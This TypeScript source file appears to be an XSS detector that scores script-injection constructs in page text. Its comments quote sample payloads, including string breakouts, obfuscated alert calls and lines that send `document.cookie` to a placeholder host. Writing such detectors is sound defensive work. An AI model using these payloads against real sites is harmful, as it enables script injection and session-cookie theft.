/**
 * Does this text run script that an injection would? Finds, over tokens: calls of dialogs and of
 * eval-like functions however the callee is spelled (escaped identifier, computed member whose key
 * folds to the name, `Function(...)()`, `constructor.constructor`, tagged templates), timers fed a
 * string, dynamic `import(`, `document.write`, reads of `document.cookie`, assignments that navigate
 * or write markup, and JSFuck-like runs. How much a construct means depends on where the text sits:
 * in a `<script>`, a handler or a `javascript:` URL any of them is script; in a bare value it
 * counts most when the value first closes a string it was placed in (`';alert(1)//`).
 */
import { isLineEnd, lexJs, lexString, type Token } from "./lexer.ts";
import { fold, matchBrackets } from "./constant.ts";
import { ASSIGN_SINKS, DIALOG_CALLS, DOCUMENT_SINKS, EVAL_CALLS, GLOBAL_OBJECTS, INDIRECT_CALLS, SENDING_CALLS, SENDING_TARGETS, SENSITIVE_MEMBERS, TIMER_CALLS, URL_SOURCES, WRITE_CALLS } from "./names.ts";
import { jsfuckRuns } from "./jsfuck.ts";
import { candidatePositions } from "./candidates.ts";

/** Where the text sits: script context (tag body, handler, `javascript:` URL) or a bare value. */
export type JsContext = "script" | "bare";

export interface JsHit {
  /** Construct name (the analyzer prefixes it). */
  construct: string;
  strength: number;
  start: number;
  end: number;
}

/** Constructs that are code execution wherever they stand; sinks and references are weaker. */
type Kind = "exec" | "sink" | "weak";

interface Callee {
  /** The name called, decoded; null when it is not a known constant. */
  name: string | null;
  /** The name was spelled to hide it: escapes, or a computed key that had to be folded. */
  hidden: boolean;
  /** The callee is itself a call of `Function(...)` or of `.constructor(...)`. */
  madeFunction: boolean;
  /** Name of the object it is a member of (`document` in `document.write`), "" when none. */
  receiver: string;
  /** The member is reached through `constructor.constructor`. */
  viaConstructor: boolean;
  startTok: number;
}

const isPunct = (t: Token | undefined, v: string) => t !== undefined && t.type === "punct" && t.value === v;

/** The callee expression ending at token j (the token before `(` or a template). */
function calleeAt(tokens: Token[], match: Int32Array, text: string, j: number, nested = false): Callee | null {
  if (isPunct(tokens[j], "?.")) j--;
  const t = tokens[j];
  if (!t) return null;
  const memberOf = (k: number) => (isPunct(tokens[k - 1], ".") || isPunct(tokens[k - 1], "?.") ? k - 2 : -1);
  const describe = (name: string | null, hidden: boolean, first: number): Callee => {
    const r = memberOf(first);
    const recv = r >= 0 ? tokens[r] : undefined;
    const receiver = recv?.type === "name" ? recv.value ?? "" : isPunct(recv, "]") ? fold(tokens, match, match[r]! + 1, r) ?? "" : "";
    return { name, hidden, madeFunction: false, receiver, viaConstructor: receiver === "constructor", startTok: r >= 0 ? r : first };
  };
  if (t.type === "name") return describe(t.value, text.slice(t.start, t.end).includes("\\"), j);
  if (isPunct(t, "]") && match[j]! >= 0) {
    const open = match[j]!;
    if (open === 0 || tokens[open - 1]!.type === "punct" && !isPunct(tokens[open - 1], ")") && !isPunct(tokens[open - 1], "]")) return null;
    const key = fold(tokens, match, open + 1, j);
    if (key === null) return null;
    // The receiver (`top` in `top['al'+'ert']`) is part of the evidence.
    const receiver = tokens[open - 1]!;
    return { ...describe(key, true, open), receiver: receiver.type === "name" ? receiver.value ?? "" : "", startTok: open - 1 };
  }
  if (isPunct(t, ")") && match[j]! >= 0) {
    const open = match[j]!;
    // `(0, alert)(1)`, `(alert)(1)`: the group's value is its last name.
    const last = tokens[j - 1];
    if (last?.type === "name" && (open === j - 2 || isPunct(tokens[j - 2], ","))) return describe(last.value, false, j - 1);
    // `Function('...')()`, `x.constructor('...')()`: calling the function a string was turned into.
    // One level only: `f()()()...` must not walk back through every call.
    const inner = nested ? null : calleeAt(tokens, match, text, open - 1, true);
    if (inner && (inner.name === "Function" || inner.name === "constructor")) return { ...inner, name: null, madeFunction: true };
  }
  return null;
}

/** Words after which an expression may start on the same line (`return eval(x)`, `else alert(1)`). */
const EXPRESSION_KEYWORDS = new Set(["return", "typeof", "void", "delete", "await", "yield", "new", "in", "of", "instanceof", "case", "do", "else", "throw", "default", "extends"]);

/**
 * Is the callee a plain name (`eval`, not `x['ev'+'al']`) with another plain name before it on the same
 * line? Two names in a row with no line end between them are no JavaScript (automatic semicolons come
 * only at a line end), so the text fails to parse and runs nothing: a stack frame (`at eval
 * (<anonymous>)`, `at setTimeout (native)`) or prose (`please confirm (yes/no)`), not a call.
 */
function afterWord(tokens: Token[], text: string, c: Callee): boolean {
  const k = c.startTok;
  if (c.hidden || c.receiver !== "" || tokens[k]!.type !== "name") return false;
  const prev = tokens[k - 1];
  if (prev?.type !== "name" || EXPRESSION_KEYWORDS.has(prev.value ?? "")) return false;
  for (let i = prev.end; i < tokens[k]!.start; i++) if (isLineEnd(text.charCodeAt(i))) return false;
  return true;
}

interface Judged {
  construct: string;
  kind: Kind;
  /** Strength in a bare value with no string breakout. */
  base: number;
}

/** Arguments read for a URL source at most (a call's argument list can be as long as the value). */
const MAX_ARG_TOKENS = 64;

/** Do the call's arguments tokens[open+1 .. close) read a value set from outside the page (`location.hash`, `name`)? */
function readsUrlSource(tokens: Token[], open: number, close: number): boolean {
  for (let k = open + 1; k < close && k <= open + MAX_ARG_TOKENS; k++) {
    const t = tokens[k]!;
    if (t.type === "name" && URL_SOURCES.has(t.value ?? "")) return true;
  }
  return false;
}

/** Do the call's arguments read the page's secrets (`alert(document.cookie)`, the classic proof of an injection)? */
function readsDocumentSink(tokens: Token[], open: number, close: number): boolean {
  for (let k = open + 1; k + 2 < close && k <= open + MAX_ARG_TOKENS; k++) {
    if (tokens[k]!.value === "document" && isPunct(tokens[k + 1], ".") && DOCUMENT_SINKS.has(tokens[k + 2]!.value ?? "")) return true;
  }
  return false;
}

/** A module name with neither a path nor a scheme: `regexp`, `fmt`. */
const BARE_MODULE = /^[\w-]+$/;

function judgeCall(c: Callee, tokens: Token[], match: Int32Array, at: number, aliases: Map<string, string>): Judged | null {
  if (c.madeFunction) return { construct: "function-constructor", kind: "exec", base: 0.9 };
  const isTemplate = tokens[at]!.type === "template";
  const args = isTemplate ? tokens[at] : tokens[at + 1];
  // `Reflect.apply.call`${f}${this}${[x]}``: a call with no parentheses, its function and arguments substituted.
  if (isTemplate && c.name !== null && (INDIRECT_CALLS.has(c.name) || c.receiver === "Reflect")) {
    return { construct: "template-call", kind: "exec", base: tokens[at]!.value === null ? 0.8 : 0.6 };
  }
  // `eval.call(this, ...)`, `alert.apply(null, [1])`: the receiver is what runs.
  let name = c.name !== null && INDIRECT_CALLS.has(c.name) && c.receiver !== "" ? c.receiver : c.name;
  if (name === null) return null;
  // `a=eval;a(...)`: an alias made in the same text is the function it names, and hides it.
  const aliased = c.receiver === "" ? aliases.get(name) : undefined;
  const hidden = c.hidden || aliased !== undefined;
  if (aliased) name = aliased;
  if (DIALOG_CALLS.has(name)) {
    const showsSecret = !isTemplate && readsDocumentSink(tokens, at, match[at]! > at ? match[at]! : tokens.length);
    return { construct: "dialog-call", kind: "exec", base: hidden ? 0.9 : showsSecret ? 0.8 : 0.6 };
  }
  if (name === "constructor") return { construct: "constructor-call", kind: "exec", base: c.viaConstructor ? 0.9 : 0.4 };
  if (c.viaConstructor) return null;
  // Code built from the URL or the window's name (`eval(location.hash.slice(1))`) is DOM XSS by construction.
  const fromUrl = !isTemplate && readsUrlSource(tokens, at, match[at]! > at ? match[at]! : tokens.length);
  if (EVAL_CALLS.has(name)) return { construct: "eval-call", kind: "exec", base: hidden ? 0.9 : fromUrl ? 0.85 : 0.55 };
  const stringArg = isTemplate || args?.type === "string" || args?.type === "template";
  if (TIMER_CALLS.has(name)) {
    // A function argument is ordinary; a string is code; anything else may be a string (`location.hash`).
    const fn = args?.value === "function" || args?.value === "(" || isPunct(args, ")");
    if (stringArg || !fn) return { construct: "eval-call", kind: "exec", base: hidden ? 0.9 : fromUrl ? 0.85 : stringArg ? 0.6 : 0.35 };
  }
  if (name === "import" && c.receiver === "" && !isTemplate) {
    // A bare module name loads nothing in a page (a browser resolves a path or a URL): `import ("fmt")`
    // is also how a Go import block reads.
    if (args?.type === "string" && BARE_MODULE.test(args.value ?? "")) return null;
    return { construct: "dynamic-import", kind: "exec", base: 0.5 };
  }
  if (WRITE_CALLS.has(name) && c.receiver === "document") return { construct: "document-write", kind: "exec", base: hidden ? 0.9 : 0.55 };
  if (hidden && SENSITIVE_MEMBERS.has(name)) return { construct: "computed-call", kind: "exec", base: 0.85 };
  return null;
}

/** Tokens read back from a cookie read for the call or assignment it sits in (a statement's worth). */
const EXFIL_REACH = 32;

/** Tokens after a cookie read kept in a name that are searched for its use. */
const HELD_REACH = 256;
/** The token lists of scans whose held cookie was followed already (see sendsHeldCookie). */
const heldSearched = new WeakSet<Token[]>();

/** An address: a string that starts a path (`/log?c=`) or holds `//` (`//e.example/?c=`, `https://...`). */
const isAddress = (text: string) => text.startsWith("/") || text.includes("//");
const isAddressLiteral = (t: Token | undefined) => t !== undefined && (t.type === "string" || t.type === "template") && t.value !== null && isAddress(t.value);

/**
 * Does the read of `document.cookie` at tokens[first..last] go off the page? Joined to an address
 * (`'//e/?c='+document.cookie`), or inside the arguments of a call that sends (`fetch(...)`,
 * `navigator.sendBeacon(...)`, `new Image(...)`) or on the right of an assignment that navigates or
 * loads (`img.src = u + document.cookie`), in the same statement. A plain read, or one a condition
 * tests (`if (!document.cookie) location.href = '/login'`), does not.
 */
function sendsCookie(tokens: Token[], match: Int32Array, first: number, last: number): boolean {
  if ((isPunct(tokens[first - 1], "+") && isAddressLiteral(tokens[first - 2])) || (isPunct(tokens[last + 1], "+") && isAddressLiteral(tokens[last + 2]))) return true;
  for (let k = first - 1; k >= 0 && k >= first - EXFIL_REACH; k--) {
    const t = tokens[k]!;
    if (isPunct(t, ";")) return false;
    // A closed group before the read is stepped over whole.
    if ((isPunct(t, ")") || isPunct(t, "]") || isPunct(t, "}")) && match[k]! >= 0 && match[k]! < k) {
      k = match[k]!;
      continue;
    }
    // An open bracket the read sits in: a call's arguments when a name is before it.
    if (isPunct(t, "(") && SENDING_CALLS.has(tokens[k - 1]?.value ?? "")) return true;
    if (isPunct(t, "=") && SENDING_TARGETS.has(tokens[k - 1]?.value ?? "")) return true;
  }
  return false;
}

/**
 * `c=document.cookie;new Image().src='//e/?'+c`: the read kept in a name (the read starts at `first`,
 * right after `c =`) that a later statement sends as sendsCookie sees a read sent, or puts in an
 * address's template (`fetch(\`//e/?c=${c}\`)`). Only a plain name assigned is followed, not a
 * member's (`o.c = document.cookie` is stored where no later use can be told apart).
 */
function sendsHeldCookie(text: string, tokens: Token[], match: Int32Array, first: number): boolean {
  const name = tokens[first - 2];
  if (!isPunct(tokens[first - 1], "=") || name?.type !== "name" || isPunct(tokens[first - 3], ".")) return false;
  // One name followed per scan: a value of many reads, each followed, would be quadratic.
  if (heldSearched.has(tokens)) return false;
  heldSearched.add(tokens);
  const substitution = new RegExp(String.raw`\$\{\s*${name.value!.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}\s*\}`);
  for (let k = first + 3; k < Math.min(tokens.length, first + HELD_REACH); k++) {
    const t = tokens[k]!;
    if (t.type === "name" && t.value === name.value && !isPunct(tokens[k - 1], ".") && !isPunct(tokens[k + 1], "=") && sendsCookie(tokens, match, k, k)) return true;
    if (t.type === "template" && t.value === null) {
      const body = text.slice(t.start + 1, t.end);
      if (substitution.test(body) && isAddress(body.slice(0, body.indexOf("${")))) return true;
    }
  }
  return false;
}

/**
 * Member reads and writes that are not calls: `document.cookie`, `location.href = ...`, `x['\x61lert']`.
 * `inAddress`: the tokens are a template's substitution whose text before it reads as an address.
 */
function judgeMember(text: string, tokens: Token[], match: Int32Array, i: number, inAddress: boolean): Judged | null {
  const t = tokens[i]!;
  const next = tokens[i + 1];
  const assigned = isPunct(next, "=") || isPunct(next, "+=");
  if (t.type === "name") {
    const prev2 = isPunct(tokens[i - 1], ".") ? tokens[i - 2] : undefined;
    if (prev2?.value === "document" && DOCUMENT_SINKS.has(t.value ?? "")) {
      if (t.value === "cookie" && !assigned && (inAddress || sendsCookie(tokens, match, i - 2, i) || sendsHeldCookie(text, tokens, match, i - 2))) return { construct: "cookie-exfiltration", kind: "exec", base: 0.7 };
      return { construct: "document-sink", kind: "sink", base: assigned ? 0.55 : 0.45 };
    }
    if (assigned && ASSIGN_SINKS.has(t.value ?? "") && (prev2 !== undefined || t.value === "location")) return { construct: "assign-sink", kind: "sink", base: 0.4 };
    // A dialog or eval passed as a value: `[1].map(alert)`, `onerror=alert;throw 1`, `{onerror=alert}throw 1`.
    const name = t.value ?? "";
    if ((DIALOG_CALLS.has(name) || name === "eval") && !isPunct(tokens[i - 1], ".") && (isPunct(tokens[i - 1], "(") || isPunct(tokens[i - 1], ",") || isPunct(tokens[i - 1], "="))) {
      // Aliased (`a=eval;a(...)`) it is as good as a call.
      // Handed to a method (`[1].find(alert)`, `p.then(eval)`) it is called by it: more than a word in parentheses.
      const toMethod = isPunct(tokens[i - 1], "(") && tokens[i - 2]?.type === "name" && isPunct(tokens[i - 3], ".");
      if (isPunct(next, ")") || isPunct(next, ",") || isPunct(next, ";") || (isPunct(next, "}") && isPunct(tokens[i - 1], "=")) || next === undefined) return { construct: "function-reference", kind: "weak", base: isPunct(tokens[i - 1], "=") ? 0.5 : toMethod ? 0.55 : 0.4 };
    }
    return null;
  }
  if (isPunct(t, "]") && match[i]! > 0 && !isPunct(next, "(") && next?.type !== "template") {
    const open = match[i]!;
    const before = tokens[open - 1]!;
    if (before.type !== "name" && !isPunct(before, ")") && !isPunct(before, "]")) return null;
    const key = fold(tokens, match, open + 1, i);
    if (key === null || !SENSITIVE_MEMBERS.has(key)) return null;
    return { construct: "computed-member", kind: GLOBAL_OBJECTS.has(before.value ?? "") || assigned ? "exec" : "sink", base: 0.6 };
  }
  return null;
}

/** Strength of a construct given where it stands. */
function strengthOf(j: Judged, context: JsContext, brokeOut: boolean): number {
  if (context === "script") return j.kind === "exec" ? Math.max(j.base, 0.95) : j.kind === "sink" ? Math.max(j.base, 0.85) : Math.max(j.base, 0.8);
  if (brokeOut) return Math.min(0.95, Math.round((j.base + (j.kind === "exec" ? 0.3 : 0.25)) * 100) / 100);
  return j.base;
}

/** `a=eval` (or a dialog): later calls of `a` are calls of what it names. */
function noteAlias(tokens: Token[], i: number, aliases: Map<string, string>): void {
  const target = tokens[i - 2];
  if (isPunct(tokens[i - 1], "=") && target?.type === "name" && !isPunct(tokens[i - 3], ".")) aliases.set(target.value ?? "", tokens[i]!.value ?? "");
}

/** Where the substitution whose code starts at i ends (its `}`), strings inside read over; `last` when it does not close. */
function substitutionEnd(text: string, i: number, last: number): number {
  let depth = 1;
  for (let j = i; j < last; j++) {
    const c = text.charCodeAt(j);
    if (c === 39 || c === 34) j = lexString(text, j, last).end - 1;
    else if (c === 123) depth++;
    else if (c === 125 && --depth === 0) return j;
  }
  return last;
}

/**
 * A template literal's substitutions (`${...}`) are code: `\`${alert(1)}\``. Each is read once, at one
 * level: a template that a substitution's code opens is not read again (an escaped backtick there
 * opens one that runs to the value's end, and reading each such level again would be quadratic).
 */
function scanSubstitutions(text: string, template: Token, context: JsContext, brokeOut: boolean, out: JsHit[]): void {
  const last = template.end - 1;
  // Does the template's own text before the substitution read as an address (`/...` or `//`)?
  let address = text.charCodeAt(template.start + 1) === 47;
  for (let k = template.start + 1; k < last; k++) {
    const c = text.charCodeAt(k);
    if (c === 92 /* \ */) k++;
    else if (c === 47 && text.charCodeAt(k - 1) === 47) address = true;
    else if (c === 36 && text.charCodeAt(k + 1) === 123) {
      const close = substitutionEnd(text, k + 2, last);
      scanTokens(text, k + 2, close, context, brokeOut, out, { inAddress: address, inSubstitution: true });
      k = close;
    }
  }
}

/** How a range is read: at the value's start (a statement breakout may open it), or as a template's substitution. */
interface ScanPlace {
  atValueStart?: boolean;
  /** The substitution's template reads as an address before it. */
  inAddress?: boolean;
  inSubstitution?: boolean;
}

function scanTokens(text: string, start: number, end: number, context: JsContext, brokeOut: boolean, out: JsHit[], place: ScanPlace = {}): void {
  const { atValueStart = false, inAddress = false, inSubstitution = false } = place;
  const tokens = lexJs(text, start, end);
  const match = matchBrackets(tokens);
  const aliases = new Map<string, string>();
  for (let i = 0; i < tokens.length; i++) {
    const t = tokens[i]!;
    if (t.type === "template" && t.value === null && !inSubstitution) scanSubstitutions(text, t, context, brokeOut, out);
    let judged: Judged | null = null;
    let first = i;
    let last = i;
    if (i > 0 && (isPunct(t, "(") || t.type === "template")) {
      const c = calleeAt(tokens, match, text, i - 1);
      if (c && !afterWord(tokens, text, c)) {
        judged = judgeCall(c, tokens, match, i, aliases);
        first = c.startTok;
        last = t.type === "template" ? i : match[i]! > i ? match[i]! : i;
      }
    } else {
      judged = judgeMember(text, tokens, match, i, inAddress);
      if (judged && isPunct(t, "]")) first = Math.max(0, match[i]! - 1);
      else if (judged && judged.construct !== "function-reference") first = Math.max(0, i - 2);
      if (judged?.construct === "function-reference") noteAlias(tokens, i, aliases);
    }
    if (!judged) continue;
    // `1;alert(1)//`: a short prefix ended as a statement, the call, and the rest commented out is
    // code placed in a script outside any string (a number, a bare variable), as much a breakout as
    // a quote. Only at the value's start: further in, it is how any posted code reads.
    const statement = atValueStart && first <= 4 && judged.kind === "exec" && (isPunct(tokens[first - 1], ";") || isPunct(tokens[first - 1], "}")) && commentsOutRest(text, tokens[last]!.end, end);
    out.push({ construct: judged.construct, strength: strengthOf(judged, context, brokeOut || statement), start: tokens[first]!.start, end: tokens[last]!.end });
  }
}

/** Does text[from, end) (statement ends and braces aside) start a comment that hides what follows? */
function commentsOutRest(text: string, from: number, end: number): boolean {
  let k = from;
  while (k < end && " \t;{}".includes(text[k]!)) k++;
  return text.startsWith("//", k) || text.startsWith("<!--", k);
}

/** Characters that may follow a closing quote when the rest of the value goes on as code. */
const CONTINUES_CODE = new Set([..."-+*/%|&^,;)]}?:<>=!\n\r"]);

/**
 * Where the value goes on as code after closing a string it was placed in: just after the first
 * quote of each kind, when what follows it (spaces skipped) is an operator or a separator; and
 * after a `*\/` that closes a comment the value was placed in (no `/*` of its own before it).
 */
function breakoutPoints(text: string, start: number, end: number): number[] {
  const out: number[] = [];
  const commentEnd = text.indexOf("*/", start);
  if (commentEnd !== -1 && commentEnd < end) {
    const opens = text.indexOf("/*", start);
    if (opens === -1 || opens >= commentEnd) out.push(commentEnd + 2);
  }
  for (const q of ["'", '"', "`"]) {
    const at = text.indexOf(q, start);
    if (at === -1 || at >= end) continue;
    let k = at + 1;
    while (k < end && (text[k] === " " || text[k] === "\t")) k++;
    if (k < end && CONTINUES_CODE.has(text[k]!)) out.push(at + 1);
  }
  return out;
}

/** Text read before and after a candidate: enough for a receiver, an alias, a call and its arguments. */
const WINDOW_BEFORE = 256;
const WINDOW_AFTER = 1024;

/** Characters after which a window may start without being inside a token of the text before. */
const isBoundary = (c: number) => c === 10 || c === 13 || c === 59 /* ; */ || c === 62 /* > */ || c === 32 || c === 44 /* , */;

/**
 * Ranges of text[from, end) around the candidates at or after `from`, merged: each starts just after
 * a boundary character (so a window seldom opens inside a string), or at `from` when a candidate is
 * near it. They never overlap, so the reading stays linear in the value's length.
 */
function candidateRegions(text: string, candidates: number[], from: number, end: number): [number, number][] {
  const regions: [number, number][] = [];
  for (const at of candidates) {
    if (at < from) continue;
    const lo = Math.max(from, at - WINDOW_BEFORE);
    const hi = Math.min(end, at + WINDOW_AFTER);
    const last = regions[regions.length - 1];
    if (last && lo <= last[1]) last[1] = Math.max(last[1], hi);
    else regions.push([lo === from ? lo : afterBoundary(text, lo, at), hi]);
  }
  return regions;
}

/** Just after the first boundary character in text[lo, to), or lo when there is none. */
function afterBoundary(text: string, lo: number, to: number): number {
  for (let k = lo; k < to; k++) if (isBoundary(text.charCodeAt(k))) return k + 1;
  return lo;
}

/** Script-like constructs in text[start, end). */
export function checkJs(text: string, start: number, end: number, context: JsContext): JsHit[] {
  const out: JsHit[] = [];
  if (context === "script") {
    scanTokens(text, start, end, context, false, out);
  } else {
    // A bare value is read only around the places a construct may start (js/candidates.ts).
    const candidates = candidatePositions(text, start, end);
    if (candidates.length) {
      for (const [lo, hi] of candidateRegions(text, candidates, start, end)) scanTokens(text, lo, hi, context, false, out, { atValueStart: lo === start });
      for (const at of breakoutPoints(text, start, end)) {
        for (const [lo, hi] of candidateRegions(text, candidates, at, end)) scanTokens(text, lo, hi, context, true, out);
      }
    }
  }
  for (const run of jsfuckRuns(text, start, end)) out.push({ construct: "jsfuck", strength: 0.9, start: run[0], end: run[1] });
  return out;
}
